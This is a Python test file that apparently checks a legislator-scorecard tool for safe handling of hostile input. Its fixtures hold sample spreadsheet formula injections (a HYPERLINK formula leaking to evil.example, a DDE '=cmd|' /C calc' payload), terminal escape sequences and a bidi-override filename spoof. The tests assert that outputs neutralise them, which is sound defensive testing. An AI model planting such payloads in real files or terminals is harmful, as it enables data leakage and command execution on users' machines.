"""Corpus, hostile strings: data text that would attack the terminal, a spreadsheet or a
reader of the site, and must reach each only as harmless text."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from scorecard.safetext import (
    clean_cell,
    for_spreadsheet,
    for_terminal,
    from_spreadsheet,
    unsafe_characters,
)

from . import archives as A
from .corpus import BUILD, VALIDATE, Case, check, invoke
from .test_bad_input import replace

ESC = "\x1b]0;pwned\x07\x1b[31m"  # set the window title, then turn the text red
BRIEF = ["brief", "Ada", "--platform", "{root}/platform.yaml"]
COMPARE = ["compare", "s1", "s2", "--platform", "{root}/platform.yaml"]
LEGISLATORS = "votes/legislators.csv"
ROSTER = str(A.OPENSTATES.parent / "roster")


def name(new: str, old: str = "Ada Senator") -> Callable[[Path], None]:
    """The first cell holding ``old`` (the name column) replaced by ``new``, CSV-quoted."""
    return replace(LEGISLATORS, old, '"' + new.replace('"', '""') + '"')


def party(new: str, old: str = "Republican") -> Callable[[Path], None]:
    return replace(LEGISLATORS, old, '"' + new.replace('"', '""') + '"')


def chain(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        for step in steps:
            step(root)
    return setup


def csv_rows(root: Path, file: str) -> list[dict[str, str]]:
    with (root / "output" / "data" / file).open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def cells_start_safely(file: str) -> Callable[[Path], None]:
    def then(root: Path) -> None:
        rows = csv_rows(root, file)
        cells = [v for r in rows for v in r.values()]
        assert cells
        risky = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
                 or (c.startswith("-") and not _number(c))]
        assert not risky, risky
        names = {r["name"] for r in rows}
        assert "'=HYPERLINK(\"http://evil.example/?leak\",\"Ada\")" in names, names
    return then


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def no_character_in_outputs(chars: str) -> Callable[[Path], None]:
    def then(root: Path) -> None:
        files = [p for p in (root / "output").rglob("*")
                 if p.is_file() and p.suffix in (".html", ".csv", ".json", ".svg")]
        assert len(files) > 5
        for p in files:
            text = p.read_text(encoding="utf-8")
            assert not any(c in text for c in chars), p
    return then


def legiscan_name(new: str) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        members = A.legiscan_members()
        key = "NY/2023-2024_General_Assembly/people/20299.json"
        doc = json.loads(members[key])
        doc["person"]["name"] = new
        members[key] = json.dumps(doc).encode()
        A.write_zip(root / "NY_2023-2024.zip", members)
    return setup


def legiscan_member(member: str) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        members = A.legiscan_members()
        members[member] = b"not json"
        A.write_zip(root / "NY_2023-2024.zip", members)
    return setup


def unresolved_names_are_text(root: Path) -> None:
    """unresolved.csv (opened by people to map names) neutralises the formula, and a
    second import reads it back unchanged."""
    path = root / "votes" / "unresolved.csv"
    with path.open(encoding="utf-8", newline="") as fh:
        cells = [v for r in csv.DictReader(fh) for v in r.values()]
    assert "'" + HYPERLINK in cells, cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))], cells
    before = path.read_bytes()
    result = invoke(root, LS)
    assert result.exit_code == 0, result.output
    assert path.read_bytes() == before


HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Ada")'
LS = ["import", "legiscan", "{root}/NY_2023-2024.zip", "--into", "{root}/votes",
      "--roster", ROSTER]

CASES = [
    # ---- the terminal
    Case("brief-escape-in-name", name(f"Ada {ESC}Senator"), BRIEF, ("Ada",), exit_code=0,
         absent=("\x1b", "\x07")),
    Case("compare-escape-in-name", name(f"Ada {ESC}Senator"), COMPARE, ("Ada",), exit_code=0,
         absent=("\x1b", "\x07")),
    Case("brief-escape-in-query", lambda root: None,
         ["brief", f"Zed{ESC}", "--platform", "{root}/platform.yaml"],
         ("No legislator matches",), absent=("\x1b", "\x07")),
    Case("validate-escape-warning", name(f"Ada {ESC}Senator"), VALIDATE,
         ("legislators.csv, row 2", "U+001B", "U+0007"), exit_code=0,
         absent=("\x1b", "\x07")),
    Case("unresolved-name-escape", legiscan_name(f"Walter {ESC}Pembrook"), LS,
         ("Walter \\x1b]0;pwned\\x07\\x1b[31mPembrook",), exit_code=0,
         absent=("\x1b", "\x07")),
    Case("formula-in-unresolved-csv", legiscan_name(HYPERLINK), LS, ("Imported",),
         exit_code=0, then=lambda root: unresolved_names_are_text(root)),
    Case("archive-member-name-escape",
         legiscan_member("NY/2023-2024_General_Assembly/vote/\x1b[2J\x1b]0;x\x07.json"), LS,
         ("NY_2023-2024.zip: NY/2023-2024_General_Assembly/vote/\\x1b[2J", "not valid JSON"),
         absent=("\x1b", "\x07")),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_string(case: Case, tmp_path: Path) -> None:
    check(case, tmp_path)


def test_case_ids_are_unique() -> None:
    ids = [c.id for c in CASES] + [c[0] for c in SITE_CASES]
    assert len(set(ids)) == len(ids)


# ---- the outputs: one build of a roster full of hostile names and parties (a build is
# the slow step), then one check per case
HOSTILE_ROWS = {  # legislator_id -> (name, party)
    "s1": (HYPERLINK, "Democratic"),
    "s2": ("@SUM(A1)", "=1+1"),
    "s3": ("+cmd \u202egnp.exe\u202c Senator", "$\\frac{a}$"),
    "a1": (f"-2+3 {ESC}Member", "$x^$ \\$ $"),
    "a2": ("=cmd|' /C calc'!A0", "=1+1"),
}


def hostile_roster(root: Path) -> None:
    path = root / LEGISLATORS
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        row["name"], row["party"] = HOSTILE_ROWS[row["legislator_id"]]
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


SITE_CASES: list[tuple[str, tuple[str, ...], Callable[[Path], None]]] = [
    ("formula-name-and-party", ("Scored",), cells_start_safely("scores.csv")),
    ("formula-in-receipts", ("Scored",), cells_start_safely("receipts.csv")),
    ("bidi-override-in-name", ("legislators.csv, row 4", "U+202E"),
     no_character_in_outputs("\u202e\u202c")),
    ("control-characters-in-name", ("legislators.csv, row 5", "U+001B"),
     no_character_in_outputs("\x1b\x07")),
    ("mathtext-party", ("Scored",), lambda root: None),  # $\frac{a}$ never parsed
    ("mathtext-party-unbalanced", ("Scored",), lambda root: None),
]


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    root = tmp_path_factory.mktemp("hostile")
    result = check(Case("hostile-build", hostile_roster, BUILD, ("Scored 4 of 5",),
                        exit_code=0, absent=("\x1b", "\x07", "\u202e")), root)
    return root, result.output


@pytest.mark.parametrize("case", SITE_CASES, ids=[c[0] for c in SITE_CASES])
def test_hostile_output(case: tuple[str, tuple[str, ...], Callable[[Path], None]],
                        hostile_build: tuple[Path, str]) -> None:
    root, output = hostile_build
    _, fragments, then = case
    for fragment in fragments:
        assert fragment in output, output
    then(root)


@pytest.mark.parametrize("text, shown", [
    ("plain, tab\tand\nnewline", "plain, tab\tand\nnewline"),
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    ("bell\x07 cr\r nul\x00 del\x7f c1\x9b", "bell\\x07 cr\\x0d nul\\x00 del\\x7f c1\\x9b"),
    ("evil \u202egnp.exe", "evil \\u202egnp.exe"),
])
def test_for_terminal(text: str, shown: str) -> None:
    assert for_terminal(text) == shown


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("''@x", "'''@x"),
    ("Ada", "Ada"), ("'quoted'", "'quoted'"), ("", ""), (-5.0, -5.0), (3, 3),
])
def test_for_spreadsheet_round_trips(value: object, written: object) -> None:
    assert for_spreadsheet(value) == written
    if isinstance(value, str):
        assert from_spreadsheet(str(written)) == value


def test_clean_cell() -> None:
    assert clean_cell("A\u202eda\x1b[1m\tB\n") == "Ada[1m\tB\n"
    assert unsafe_characters("A\u202e\u202e\x00") == ["U+202E", "U+0000"]
